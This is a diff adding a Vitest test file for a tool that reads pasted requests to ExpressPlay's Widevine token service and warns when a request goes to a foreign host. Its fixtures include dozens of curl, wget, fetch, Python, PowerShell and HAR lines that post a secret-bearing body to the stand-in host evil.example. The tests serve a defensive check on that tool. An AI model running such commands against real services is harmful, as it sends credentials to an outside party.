@@ -1,0 +1,96 @@
+import { expect, test } from "vitest";
+import type { PastedRequest } from "../../docs/preflight/src/logic/pasted.ts";
+import { readPaste } from "../../docs/preflight/src/logic/read-paste.ts";
+import { authenticator, body, context, values } from "./samples.ts";
+
+const service = "https://wv-gen.test.expressplay.com/hms/wv/token";
+const production = "wv-gen.service.expressplay.com/hms/wv/token";
+const evil = "https://evil.example/token";
+
+function requestIn(text: string): PastedRequest {
+  const pasted = readPaste(text, context);
+  if (pasted.kind !== "request") throw new Error(pasted.kind);
+  return pasted;
+}
+
+function har(...requests: readonly object[]): string {
+  return JSON.stringify({ log: { entries: requests.map((request) => ({ request })) } });
+}
+
+test.each([
+  ["a query, in curl", `curl -d '${body}' '${evil}?u=1'`],
+  ["a query, in curl, first", `curl -X POST "${evil}?env=test" --data "${body}"`],
+  ["a query, in wget", `wget --post-data='${body}' '${evil}?y=1'`],
+  ["a query, in fetch", `fetch("${evil}?y=1",{method:"POST",body:"${body}"})`],
+  ["a query, in Python", `requests.post("${evil}?y=1", data="${body}")`],
+  ["a query, in PowerShell", `irm -Method Post '${evil}?y=1' -Body '${body}'`],
+  ["a query, in a message", `POST /x?y=1 HTTP/1.1\nHost: evil.example\n\n${body}`],
+  ["a query, in a HAR file", har({ url: `${evil}?v=1`, postData: { text: body } })],
+  ["a whole URL in a message", `POST ${evil} HTTP/1.1\nHost: wv-gen.test.expressplay.com\n\n${body}`],
+  ["no scheme", `curl -d '${body}' evil.example/token`],
+  ["no scheme, in quotes", `curl "evil.example" -sd '${body}'`],
+  ["no scheme, with a port and user", `curl -d '${body}' a:b@evil.example:8080/token`],
+  ["no scheme, in HTTPie", `http --form POST evil.example/token ${decodeURIComponent(body).split("&").join(" ")}`],
+  ["a header first", `curl -H 'Referer: ${service}' -d '${body}' ${evil}`],
+  ["a header with its value", `curl -e ${service} -d '${body}' ${evil}`],
+  ["the service first", `curl -d '${body}' ${service} ${evil}`],
+  ["a GET first", har({ url: service, method: "GET" }, { url: evil, postData: { text: body } })],
+  ["escaped slashes", har({ url: evil, postData: { text: body } }).replaceAll("/", "\\/")],
+])("the foreign host of a command is told: %s", (_, text) => {
+  const { host, losses, marks, values: read } = requestIn(text);
+  expect(read).toEqual(values);
+  expect(host).toMatchObject({ name: "evil.example", kind: "foreign" });
+  expect(host?.said).toContain("evil.example is not a host of ExpressPlay: its secrets went somewhere else");
+  expect(losses.map(({ kind, counts }) => [kind, counts])).toContainEqual(["host", true]);
+  expect(marks.map(({ start, end }) => text.slice(start, end))).toContain("evil.example");
+});
+
+test.each([
+  ["prose", `We post ${body} to ${evil} and get an error.`],
+  ["prose after", `${evil}. We send ${body}`],
+  ["lines", `URL: ${evil}\nbody: ${body}`],
+  ["lines of a network panel", `Request URL: ${evil}\nRequest Method: POST\n\n${body}`],
+  ["JSON", JSON.stringify({ url: evil, body })],
+  ["PowerShell", `curl.exe -X POST \`\n -d "${body}" \`\n ${evil}`],
+  ["a variable", `const url = "${evil}";\nfetch(url, { method: "POST", body: "${body}" })`],
+  ["a header", `Host: evil.example\nReferer: ${service}\n\n${body}`],
+  ["several", `${service} or ${evil}?\n\n${body}`],
+])("the foreign host beside a request is told: %s", (_, text) => {
+  const { host, losses, marks } = requestIn(text);
+  expect(host).toMatchObject({ name: "evil.example", kind: "foreign" });
+  expect(host?.said).toBe(
+    "evil.example also stands in the text and is not a host of ExpressPlay: check that the request is not sent there.",
+  );
+  expect(losses.map(({ kind, counts }) => [kind, counts])).toEqual([["host", true]]);
+  expect(marks.map(({ start, end }) => text.slice(start, end))).toEqual(["evil.example"]);
+});
+
+test.each([
+  ["a query", `curl -d '${body}' 'https://${production}?trace=1'`, "production"],
+  ["no scheme", `curl -d '${body}' ${production}`, "production"],
+  ["prose", `We post ${body} to https://${production}, see https://www.expressplay.com/developer/.`, "production"],
+  [
+    "a file of another entry",
+    har({ url: "https://cdn.acme.example/app.js" }, { url: service, postData: { text: body } }),
+    "test",
+  ],
+  ["a header of curl", `curl -H 'Origin: https://shop.acme.example' -d '${body}' ${service}`, "test"],
+  [
+    "headers of fetch",
+    `fetch("${service}", { "headers": { "Referer": "https://shop.example/" }, "body": "${body}" })`,
+    "test",
+  ],
+  ["headers of PowerShell", `irm ${service} -Headers @{ Origin = "https://shop.example" } -Body '${body}'`, "test"],
+  ["a value", `curl -d 'cookie=https://shop.example/' -d '${body}' ${service}`, "test"],
+  ["headers beside", `${service}\nOrigin: https://shop.example\n"referer": "https://shop.example/"\n\n${body}`, "test"],
+  ["the name of a file", `curl -o out.txt -d '${body}' ${service} and out.log`, "test"],
+])("no host but that of the service is told: %s", (_, text, target) => {
+  const { host, losses } = requestIn(text);
+  expect([host?.target, host?.said, losses.map(({ kind }) => kind)]).toEqual([target, "", []]);
+});
+
+test("what is said of a host has no user info in it", () => {
+  const { said } = requestIn(`curl -d '${body}' https://${authenticator.split(",").join(":")}@evil.example/`);
+  expect(said).toContain("evil.example is not a host");
+  expect(said).not.toContain(authenticator.slice(2));
+});
